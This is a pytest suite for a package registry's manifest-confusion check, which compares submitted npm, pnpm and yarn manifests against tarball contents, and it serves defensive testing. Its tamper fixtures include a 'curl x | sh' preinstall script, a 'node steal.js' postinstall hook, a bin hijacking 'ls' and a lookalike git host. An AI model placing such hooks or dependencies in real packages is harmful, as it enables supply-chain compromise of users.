"""Unit tests for ketch.registry.manifest_check (the publish-time manifest-confusion check)."""

from __future__ import annotations

import copy
import json
import pathlib
import random
import time

import pytest

from ketch.registry.manifest_check import COMPARED_FIELDS, manifest_mismatches

DATA = pathlib.Path(__file__).parent / "data" / "manifest_check_captured.json"
CAPTURES = json.loads(DATA.read_text(encoding="utf-8"))["captures"]


def mismatches(submitted, packed, files=()):
    return manifest_mismatches(submitted, packed, frozenset({"package.json", "index.js", *files}))


def pkg(**fields):
    out = {"name": "pkg", "version": "1.0.0"}
    out.update(fields)
    return out


# --------------------------------------------------------------------------------------------------
# Real publishes captured from npm 11.19.1, pnpm 12.21.0, yarn 1.22.22 and yarn 4.18.1
# --------------------------------------------------------------------------------------------------


def test_captures_cover_every_client():
    clients = {c["client"] for c in CAPTURES}
    assert clients == {"npm 11.19.1", "pnpm 12.21.0", "yarn 1.22.22", "yarn 4.18.1"}
    assert len(CAPTURES) > 100


@pytest.mark.parametrize("capture", CAPTURES, ids=[f"{c['client']}:{c['case']}" for c in CAPTURES])
def test_honest_captured_publish_passes(capture):
    files = frozenset(capture["files"])
    assert manifest_mismatches(capture["submitted"], capture["packed"], files) == []


def _tamper_dependency(packed):
    deps = packed.get("dependencies")
    packed["dependencies"] = {**(deps if isinstance(deps, dict) else {}), "evil-payload": "^6.6.6"}
    return "dependencies"


def _tamper_postinstall(packed):
    scripts = packed.get("scripts")
    packed["scripts"] = {**(scripts if isinstance(scripts, dict) else {}), "postinstall": "node steal.js"}
    return "scripts"


def _tamper_version(packed):
    packed["version"] = "9.9.9"
    return "version"


def _tamper_name(packed):
    packed["name"] = "some-other-name"
    return "name"


def _tamper_engines(packed):
    packed["engines"] = {"node": ">=0.1 <0.2"}
    return "engines"


def _tamper_bin(packed):
    packed["bin"] = {"ls": "evil.js"}
    return "bin"


def _tamper_os(packed):
    packed["os"] = ["aix"]
    return "os"


def _tamper_cpu(packed):
    packed["cpu"] = ["mips"]
    return "cpu"


TAMPERS = [
    _tamper_dependency,
    _tamper_postinstall,
    _tamper_version,
    _tamper_name,
    _tamper_engines,
    _tamper_bin,
    _tamper_os,
    _tamper_cpu,
]


@pytest.mark.parametrize("tamper", TAMPERS, ids=lambda f: f.__name__[len("_tamper_") :])
def test_tampered_captured_tarballs_are_caught(tamper):
    for capture in CAPTURES:
        packed = copy.deepcopy(capture["packed"])
        field = tamper(packed)
        result = manifest_mismatches(capture["submitted"], packed, frozenset(capture["files"]))
        assert field in result, (capture["client"], capture["case"], result)


def test_tampered_captured_manifests_are_caught():
    # the other direction: the JSON manifest hides what the (honest) tarball does
    for capture in CAPTURES:
        submitted = copy.deepcopy(capture["submitted"])
        submitted["dependencies"] = {}
        submitted.pop("bundleDependencies", None)
        packed = copy.deepcopy(capture["packed"])
        packed["dependencies"] = {"left-pad": "^1.3.0"}
        packed.pop("bundleDependencies", None)
        packed.pop("bundledDependencies", None)
        result = manifest_mismatches(submitted, packed, frozenset(capture["files"]))
        assert "dependencies" in result, (capture["client"], capture["case"], result)


# --------------------------------------------------------------------------------------------------
# Normalisation rules: (what the client sent, the raw package.json it packed, tarball files)
# --------------------------------------------------------------------------------------------------

HONEST = {
    # --- npm: @npmcli/package-json fix() + prepare(), libnpmpublish patchManifest ---
    "npm bin string -> {name: path}, './' stripped": (
        pkg(bin={"pkg": "cli.js"}),
        pkg(bin="./cli.js"),
        ["cli.js"],
    ),
    "npm scoped bin string keyed by bare name": (
        pkg(name="@scope/tool", bin={"tool": "cli.js"}),
        pkg(name="@scope/tool", bin="cli.js"),
        ["cli.js"],
    ),
    "npm bin array -> {basename: path}": (
        pkg(bin={"a.js": "bin/a.js", "b.js": "bin/b.js"}),
        pkg(bin=["./bin/a.js", "bin/b.js"]),
        ["bin/a.js", "bin/b.js"],
    ),
    "npm bin keys and paths secured": (
        pkg(
            bin={
                "foo": "bin/foo.js",
                "bar": "bin/bar.js",
                "baz": "bin/baz.js",
                "e": "win/path.js",
                "c": "x.js",
                "f": "C/x.js",
            }
        ),
        pkg(
            bin={
                "foo": "./bin/foo.js",
                "./bar": "bin//bar.js",
                "baz": "bin/../bin/baz.js",
                "d\\e": "win\\path.js",
                "c": "../../x.js",
                "f": "C:\\x.js",
            }
        ),
        [],
    ),
    "npm invalid bin entries dropped": (
        pkg(bin={"ok": "x.js"}),
        pkg(bin={"ok": "./x.js", "a": 5, "b": "", "..": "x.js"}),
        ["x.js"],
    ),
    "npm empty bin dropped": (pkg(), pkg(bin={}), []),
    "npm string bin without a name dropped": (
        {"version": "1.0.0"},
        {"version": "1.0.0", "bin": "cli.js"},
        ["cli.js"],
    ),
    "npm directories.bin expanded recursively, directories included, dotfiles skipped": (
        pkg(bin={"a.js": "bin/a.js", "sub": "bin/sub", "b.js": "bin/sub/b.js"}, directories={"bin": "./bin"}),
        pkg(directories={"bin": "./bin"}),
        ["bin/a.js", "bin/sub/b.js", "bin/.hidden.js"],
    ),
    "npm directories.bin with trailing slash": (
        pkg(
            bin={"a.js": "bin//a.js", "deep": "bin//deep", "er": "bin//deep/er", "c.js": "bin//deep/er/c.js"},
            directories={"bin": "bin/"},
        ),
        pkg(directories={"bin": "bin/"}),
        ["bin/a.js", "bin/deep/er/c.js"],
    ),
    "npm directories.bin ignored when bin is set": (
        pkg(bin={"x": "bin/a.js"}, directories={"bin": "bin"}),
        pkg(bin={"x": "bin/a.js"}, directories={"bin": "bin"}),
        ["bin/a.js", "bin/c.js"],
    ),
    "npm binding.gyp adds install script": (
        pkg(scripts={"test": "echo", "install": "node-gyp rebuild"}, gypfile=True),
        pkg(scripts={"test": "echo"}),
        ["binding.gyp"],
    ),
    "npm any root *.gyp adds install script": (
        pkg(scripts={"install": "node-gyp rebuild"}, gypfile=True),
        pkg(),
        ["other.gyp"],
    ),
    "pnpm/yarn4 leave binding.gyp implicit": (pkg(), pkg(), ["binding.gyp"]),
    "npm gypfile false suppresses node-gyp": (pkg(gypfile=False), pkg(gypfile=False), ["binding.gyp"]),
    "npm preinstall suppresses node-gyp": (
        pkg(scripts={"preinstall": "echo pre"}),
        pkg(scripts={"preinstall": "echo pre"}),
        ["binding.gyp"],
    ),
    "npm server.js adds start script": (pkg(scripts={"start": "node server.js"}), pkg(), ["server.js"]),
    "npm existing start script kept": (
        pkg(scripts={"start": "node other.js"}),
        pkg(scripts={"start": "node other.js"}),
        ["server.js"],
    ),
    "npm binding.gyp/server.js seen in the source dir but left out of the tarball": (
        pkg(
            scripts={"install": "node-gyp rebuild", "start": "node server.js"},
            gypfile=True,
            files=["index.js"],
        ),
        pkg(files=["index.js"]),
        [],
    ),
    "npm scripts: node_modules/.bin prefix stripped, non-strings dropped": (
        pkg(scripts={"postinstall": "foo --x", "install": "bar", "test": "echo"}),
        pkg(
            scripts={
                "postinstall": "node_modules/.bin/foo --x",
                "install": "./node_modules/.bin/bar",
                "weird": 5,
                "test": "echo",
            }
        ),
        [],
    ),
    "npm bundleDependencies true -> dependency names": (
        pkg(dependencies={"a": "^1", "b": "^2"}, bundleDependencies=["a", "b"]),
        pkg(dependencies={"a": "^1", "b": "^2"}, bundleDependencies=True),
        [],
    ),
    "npm bundledDependencies alias, bundled names added to dependencies": (
        pkg(dependencies={"a": "^1", "b": "*"}, bundleDependencies=["a", "b"]),
        pkg(dependencies={"a": "^1"}, bundledDependencies=["a", "b"]),
        [],
    ),
    "npm bundleDependencies false -> []": (
        pkg(dependencies={"a": "^1"}, bundleDependencies=[]),
        pkg(dependencies={"a": "^1"}, bundleDependencies=False),
        [],
    ),
    "npm bundleDependencies object -> keys": (
        pkg(dependencies={"a": "^1"}, bundleDependencies=["a"]),
        pkg(dependencies={"a": "^1"}, bundleDependencies={"a": "x"}),
        [],
    ),
    "npm bundleDependencies wins over bundledDependencies": (
        pkg(dependencies={"a": "^1", "b": "^2"}, bundleDependencies=["a"]),
        pkg(dependencies={"a": "^1", "b": "^2"}, bundleDependencies=["a"], bundledDependencies=["b"]),
        [],
    ),
    "npm keeps optional deps duplicated in dependencies": (
        pkg(dependencies={"fsevents": "^2", "a": "^1"}, optionalDependencies={"fsevents": "^2"}),
        pkg(dependencies={"fsevents": "^2", "a": "^1"}, optionalDependencies={"fsevents": "^2"}),
        [],
    ),
    "npm version cleaned: v prefix": (pkg(version="1.0.0"), pkg(version="v1.0.0"), []),
    "npm version cleaned: = prefix, leading zeros, build metadata": (
        pkg(version="1.0.0-beta.1"),
        pkg(version="=1.0.0-beta.01+build.5"),
        [],
    ),
    "npm version cleaned: loose prerelease without hyphen": (
        pkg(version="1.2.3-beta"),
        pkg(version="1.2.3beta"),
        [],
    ),
    "npm name whitespace trimmed": (pkg(name="pkg"), pkg(name=" pkg "), []),
    "npm dependency array / string forms": (
        pkg(dependencies={"left-pad": "^1.0.0", "is-odd": ""}, devDependencies={"foo": "1", "bar": ""}),
        pkg(dependencies=["left-pad@^1.0.0", "is-odd"], devDependencies="foo@1 bar"),
        [],
    ),
    "npm invalid dependency values dropped": (
        pkg(dependencies={"a": "^1"}),
        pkg(dependencies={"a": "^1", "b": 5, "c": True}, devDependencies=7),
        [],
    ),
    "npm hosted git specs normalised": (
        pkg(
            dependencies={
                "a": "github:user/repo",
                "c": "git+https://github.com/user/repo.git",
                "d": "git+https://github.com/user/repo.git",
                "f": "git+ssh://git@github.com/user/repo.git#semver:^1",
            },
            devDependencies={"g": "git+ssh://git@github.com/user/repo.git"},
        ),
        pkg(
            dependencies={
                "a": "user/repo",
                "c": "git+https://github.com/user/repo.git",
                "d": "https://github.com/user/repo",
                "f": "git@github.com:user/repo.git#semver:^1",
            },
            devDependencies={"g": "http://github.com/user/repo"},
        ),
        [],
    ),
    "file: and link: paths compared normalised": (
        pkg(dependencies={"x": "file:vendor/x", "z": "link:vendor/z"}),
        pkg(dependencies={"x": "file:./vendor/x", "z": "link:./vendor/z"}),
        [],
    ),
    "empty containers equal absent fields": (
        pkg(),
        pkg(dependencies={}, scripts={}, os=[], engines={}, peerDependencies=None),
        [],
    ),
    "os/cpu/libc compared as sets": (
        pkg(os=["linux", "!win32"], cpu=["x64", "arm64"], libc=["glibc"]),
        pkg(os=["!win32", "linux"], cpu=["arm64", "x64", "x64"], libc=["glibc"]),
        [],
    ),
    # --- pnpm: packed package.json is its rewritten manifest; sent version is semver.clean-ed ---
    "pnpm publishConfig + workspace:/catalog: rewritten on both sides": (
        pkg(
            main="dist/index.js",
            bin={"bb": "./dist/bb.js"},
            dependencies={"a": "^1.2.3", "left-pad": "^1.3.0"},
            publishConfig={"access": "public"},
        ),
        pkg(
            main="dist/index.js",
            bin={"bb": "./dist/bb.js"},
            dependencies={"a": "^1.2.3", "left-pad": "^1.3.0"},
            publishConfig={"access": "public"},
        ),
        ["dist/bb.js"],
    ),
    "pnpm bin string -> object keeps './'": (
        pkg(bin={"pkg": "./cli.js"}),
        pkg(bin={"pkg": "./cli.js"}),
        ["cli.js"],
    ),
    # --- yarn 4: same document both sides ---
    "yarn4 bin array as index-keyed object": (
        pkg(bin={"0": "./bin/a.js", "1": "bin/b.js"}),
        pkg(bin={"0": "./bin/a.js", "1": "bin/b.js"}),
        ["bin/a.js", "bin/b.js"],
    ),
    # --- yarn 1: util/normalize-manifest on the sent manifest, raw package.json packed ---
    "yarn1 invalid bin names and parent/absolute targets dropped": (
        pkg(bin={"ok": "x.js", "good.name_-1": "x.js"}),
        pkg(
            bin={
                "a b": "x.js",
                "ok": "x.js",
                "..": "x.js",
                "c": "/abs.js",
                "@x": "x.js",
                "good.name_-1": "./x.js",
                "./bar": "x.js",
            }
        ),
        ["x.js"],
    ),
    "yarn1 directories.bin expanded one level, directories removed": (
        pkg(bin={"a.js": "bin/a.js", "sub": "bin/sub"}),
        pkg(directories={"bin": "./bin"}),
        ["bin/a.js", "bin/sub/b.js", "bin/.hidden.js"],
    ),
    "yarn1 '//' comment dependency removed": (
        pkg(dependencies={"left-pad": "^1.0.0"}),
        pkg(dependencies={"//": "a comment", "left-pad": "^1.0.0"}),
        [],
    ),
    "yarn1 dependencies deduplicated across optional/prod/dev": (
        pkg(dependencies={"left-pad": "^1.3.0", "is-odd": "^3.0.0"}, devDependencies={"is-even": "^1.0.0"}),
        pkg(
            dependencies={"left-pad": "*", "is-odd": "^3.0.0"},
            devDependencies={"left-pad": "^1.3.0", "is-odd": "^3.0.0", "is-even": "^1.0.0"},
        ),
        [],
    ),
    "yarn1 optional deps removed from dependencies": (
        pkg(dependencies={"left-pad": "^1"}, optionalDependencies={"fsevents": "^2"}),
        pkg(dependencies={"fsevents": "^2", "left-pad": "^1"}, optionalDependencies={"fsevents": "^2"}),
        [],
    ),
    "yarn1 bundledDependencies wins over bundleDependencies": (
        pkg(dependencies={"a": "^1", "b": "^2"}, bundleDependencies=["b"]),
        pkg(dependencies={"a": "^1", "b": "^2"}, bundleDependencies=["a"], bundledDependencies=["b"]),
        [],
    ),
    "yarn1 engines array -> object": (
        pkg(engines={"node": ">= 18", "npm": "9"}),
        pkg(engines=["node >= 18", "npm 9"]),
        [],
    ),
    "yarn1 binding.gyp overrides empty install even with preinstall": (
        pkg(scripts={"preinstall": "node pre.js", "install": "node-gyp rebuild"}),
        pkg(scripts={"preinstall": "node pre.js", "install": ""}),
        ["binding.gyp"],
    ),
    "yarn1 binding.gyp adds install despite gypfile false": (
        pkg(scripts={"install": "node-gyp rebuild"}, gypfile=False),
        pkg(gypfile=False),
        ["binding.gyp"],
    ),
    "yarn1 --new-version keeps the raw version string": (pkg(version="v1.0.0"), pkg(version="v1.0.0"), []),
}


@pytest.mark.parametrize("case", sorted(HONEST))
def test_honest_normalisation_rules(case):
    submitted, packed, files = HONEST[case]
    assert mismatches(submitted, packed, files) == []


# --------------------------------------------------------------------------------------------------
# Tampered publishes: (submitted manifest, tarball package.json, tarball files, expected fields)
# --------------------------------------------------------------------------------------------------

TAMPERED = {
    "extra dependency in tarball": (
        pkg(dependencies={"a": "^1"}),
        pkg(dependencies={"a": "^1", "evil": "^1"}),
        [],
        ["dependencies"],
    ),
    "different dependency range": (
        pkg(dependencies={"a": "^1"}),
        pkg(dependencies={"a": "^2"}),
        [],
        ["dependencies"],
    ),
    "dependency hidden behind bundleDependencies in manifest only": (
        pkg(dependencies={"a": "^1"}),
        pkg(dependencies={"a": "^1"}, bundleDependencies=["evil"]),
        [],
        ["bundleDependencies", "dependencies"],
    ),
    "extra devDependency": (pkg(), pkg(devDependencies={"x": "1"}), [], ["devDependencies"]),
    "different optionalDependency": (
        pkg(optionalDependencies={"x": "1"}),
        pkg(optionalDependencies={"x": "2"}),
        [],
        ["optionalDependencies"],
    ),
    "optional dependency swapped for a required one": (
        pkg(optionalDependencies={"x": "1"}),
        pkg(dependencies={"x": "1"}),
        [],
        ["dependencies", "optionalDependencies"],
    ),
    "peerDependencies differ": (
        pkg(peerDependencies={"r": "^18"}),
        pkg(peerDependencies={"r": "^17"}),
        [],
        ["peerDependencies"],
    ),
    "peerDependenciesMeta optional flag": (
        pkg(peerDependenciesMeta={"r": {"optional": True}}),
        pkg(peerDependenciesMeta={"r": {"optional": 1}}),
        [],
        ["peerDependenciesMeta"],
    ),
    "different postinstall": (
        pkg(scripts={"postinstall": "node ok.js"}),
        pkg(scripts={"postinstall": "node evil.js"}),
        [],
        ["scripts"],
    ),
    "preinstall only in tarball": (
        pkg(scripts={}),
        pkg(scripts={"preinstall": "curl x | sh"}),
        [],
        ["scripts"],
    ),
    "install script only in tarball": (pkg(), pkg(scripts={"install": "node-gyp rebuild"}), [], ["scripts"]),
    "manifest disables the implicit node-gyp build": (
        pkg(gypfile=False),
        pkg(),
        ["binding.gyp"],
        ["scripts"],
    ),
    "manifest claims a different start script": (
        pkg(scripts={"start": "node x.js"}),
        pkg(),
        ["server.js"],
        ["scripts"],
    ),
    "different bin target": (pkg(bin={"tool": "cli.js"}), pkg(bin={"tool": "evil.js"}), [], ["bin"]),
    "extra bin in tarball": (
        pkg(bin={"tool": "cli.js"}),
        pkg(bin={"tool": "cli.js", "ls": "evil.js"}),
        [],
        ["bin"],
    ),
    "bins hidden behind directories.bin": (pkg(), pkg(directories={"bin": "bin"}), ["bin/ls"], ["bin"]),
    "engines differ": (pkg(engines={"node": ">=18"}), pkg(engines={"node": ">=20"}), [], ["engines"]),
    "os differ": (pkg(os=["linux"]), pkg(os=["linux", "darwin"]), [], ["os"]),
    "cpu differ": (pkg(cpu=["x64"]), pkg(cpu=["arm64"]), [], ["cpu"]),
    "libc differ": (pkg(libc=["glibc"]), pkg(libc=["musl"]), [], ["libc"]),
    "name differs": (pkg(name="good"), pkg(name="evil"), [], ["name"]),
    "version differs": (pkg(version="1.0.0"), pkg(version="1.0.1"), [], ["version"]),
    "prerelease differs": (pkg(version="1.0.0-beta.1"), pkg(version="1.0.0-beta.2"), [], ["version"]),
    "hosted git committish differs": (
        pkg(dependencies={"a": "github:user/repo#v1"}),
        pkg(dependencies={"a": "user/repo#v2"}),
        [],
        ["dependencies"],
    ),
    "hosted git repository differs": (
        pkg(dependencies={"a": "github:user/repo"}),
        pkg(dependencies={"a": "user/repo2"}),
        [],
        ["dependencies"],
    ),
    "hosted git host differs": (
        pkg(dependencies={"a": "github:user/repo"}),
        pkg(dependencies={"a": "gitlab:user/repo"}),
        [],
        ["dependencies"],
    ),
    "lookalike git host": (
        pkg(dependencies={"a": "git+https://github.com/u/r.git"}),
        pkg(dependencies={"a": "https://github.com.evil.example/u/r"}),
        [],
        ["dependencies"],
    ),
    "file: path differs": (
        pkg(dependencies={"a": "file:./vendor/a"}),
        pkg(dependencies={"a": "file:./vendor/b"}),
        [],
        ["dependencies"],
    ),
    "several fields at once, sorted": (
        pkg(version="1.0.0", scripts={}, cpu=["x64"]),
        pkg(version="2.0.0", scripts={"install": "x"}, cpu=["arm"]),
        [],
        ["cpu", "scripts", "version"],
    ),
}


@pytest.mark.parametrize("case", sorted(TAMPERED))
def test_tampered_publishes_fail(case):
    submitted, packed, files, expected = TAMPERED[case]
    assert mismatches(submitted, packed, files) == expected


def test_yarn1_profile_does_not_mix_with_npm_profile():
    # bin only matches under yarn 1's rules, dependencies only under npm's; no single client sends that
    submitted = pkg(bin={"ok": "x.js"}, dependencies={"//": "c", "a": "^1"})
    packed = pkg(bin={"ok": "x.js", "a b": "x.js"}, dependencies={"//": "c", "a": "^1"})
    assert mismatches(submitted, packed, ["x.js"]) != []


# --------------------------------------------------------------------------------------------------
# Hostile input: never raise, always return sorted names of compared fields
# --------------------------------------------------------------------------------------------------


def _assert_result_shape(result):
    assert isinstance(result, list)
    assert result == sorted(result)
    assert set(result) <= set(COMPARED_FIELDS)


WEIRD_VALUES = [
    None,
    True,
    False,
    0,
    1,
    -1.5,
    float("nan"),
    "",
    "x",
    " ",
    "./",
    "..",
    "/",
    "\\",
    "github:",
    "git+ssh://[",
    "%",
    "#",
    "@",
    [],
    [None],
    [1, "a", None],
    ["./bin/a.js"],
    {},
    {"a": None},
    {"a": 5},
    {"": ""},
    {"..": "../.."},
    {"a": {"b": [1]}},
    {"bin": "x"},
    "v" * 5000,
    "1." * 3000,
]

FIELDS_TO_FUZZ = list(COMPARED_FIELDS) + ["bundledDependencies", "directories", "gypfile"]


@pytest.mark.parametrize("field", FIELDS_TO_FUZZ)
def test_hostile_field_types_never_raise(field):
    for value in WEIRD_VALUES:
        for files in (frozenset(), frozenset({"binding.gyp", "server.js", "bin/a.js", "x.gyp", ".x"})):
            _assert_result_shape(manifest_mismatches(pkg(**{field: value}), pkg(), files))
            _assert_result_shape(manifest_mismatches(pkg(), pkg(**{field: value}), files))
            assert manifest_mismatches(pkg(**{field: value}), pkg(**{field: value}), files) == [], (
                field,
                value,
            )


@pytest.mark.parametrize("value", [None, 0, "x", [], [1, 2], 3.5, True, {"name": None}])
def test_non_object_manifests_never_raise(value):
    _assert_result_shape(manifest_mismatches(value, pkg(), frozenset()))
    _assert_result_shape(manifest_mismatches(pkg(), value, frozenset()))
    assert manifest_mismatches(value, value, frozenset()) == []


@pytest.mark.parametrize(
    "files",
    [
        None,
        "package.json",
        5,
        [None, 3, b"x", "a/../../b", "/abs", "./x"],
        {"a": 1},
        frozenset({"", "/", "//", "."}),
    ],
)
def test_odd_tarball_file_lists_never_raise(files):
    _assert_result_shape(
        manifest_mismatches(pkg(directories={"bin": "."}), pkg(directories={"bin": "."}), files)
    )


def _nested(depth):
    value: dict = {"optional": True}
    for _ in range(depth):
        value = {"x": value}
    return value


def test_deep_nesting_does_not_overflow():
    deep = _nested(50_000)
    other = _nested(50_000)
    assert (
        manifest_mismatches(pkg(peerDependenciesMeta=deep), pkg(peerDependenciesMeta=other), frozenset())
        == []
    )
    assert manifest_mismatches(pkg(engines=deep), pkg(engines={"x": 1}), frozenset()) == ["engines"]
    assert manifest_mismatches(pkg(dependencies=deep), pkg(dependencies=other), frozenset()) == []


def test_random_garbage_never_raises():
    rng = random.Random(20240601)
    atoms = WEIRD_VALUES[:-2] + ["^1.0.0", "user/repo", "node-gyp rebuild", "bin", "cli.js", "@s/n", "1.0.0"]

    def value(depth=0):
        roll = rng.random()
        if depth > 3 or roll < 0.5:
            return rng.choice(atoms)
        if roll < 0.75:
            return [value(depth + 1) for _ in range(rng.randint(0, 3))]
        return {
            rng.choice(["a", "bin", "install", "start", "//", "0", "optional"]): value(depth + 1)
            for _ in range(rng.randint(0, 3))
        }

    for _ in range(1000):
        manifests = []
        for _ in range(2):
            manifests.append({f: value() for f in rng.sample(FIELDS_TO_FUZZ, rng.randint(0, 6))})
        files = frozenset(rng.sample(["binding.gyp", "server.js", "bin/a", "bin/s/b", "a.gyp", "x/y/z"], 3))
        _assert_result_shape(manifest_mismatches(manifests[0], manifests[1], files))
        assert manifest_mismatches(manifests[0], manifests[0], files) == []


def test_inputs_are_not_mutated():
    submitted = pkg(
        bin="./cli.js",
        scripts={"t": "node_modules/.bin/x"},
        dependencies=["a@1"],
        bundleDependencies=True,
        directories={"bin": "bin"},
    )
    packed = copy.deepcopy(submitted)
    before = copy.deepcopy((submitted, packed))
    manifest_mismatches(submitted, packed, frozenset({"binding.gyp", "server.js", "bin/a"}))
    assert (submitted, packed) == before


# --------------------------------------------------------------------------------------------------
# Speed: called on every publish, tarballs with thousands of files
# --------------------------------------------------------------------------------------------------


def test_large_package_is_fast():
    files = frozenset(
        {f"lib/mod{i}/file{j}.js" for i in range(100) for j in range(50)}
        | {f"bin/tool{i}" for i in range(200)}
        | {"binding.gyp", "server.js"}
    )
    deps = {f"dep-{i}": f"^{i}.0.0" for i in range(500)}
    raw = pkg(
        directories={"bin": "bin"},
        dependencies=deps,
        devDependencies=dict(deps),
        scripts={f"s{i}": "node x" for i in range(100)},
    )
    sent = copy.deepcopy(raw)
    sent["bin"] = {f"tool{i}": f"bin/tool{i}" for i in range(200)}
    start = time.perf_counter()
    for _ in range(5):
        assert manifest_mismatches(sent, raw, files) == []
        assert manifest_mismatches(sent, {**raw, "version": "1.0.1"}, files) == ["version"]
    assert (time.perf_counter() - start) / 10 < 0.25
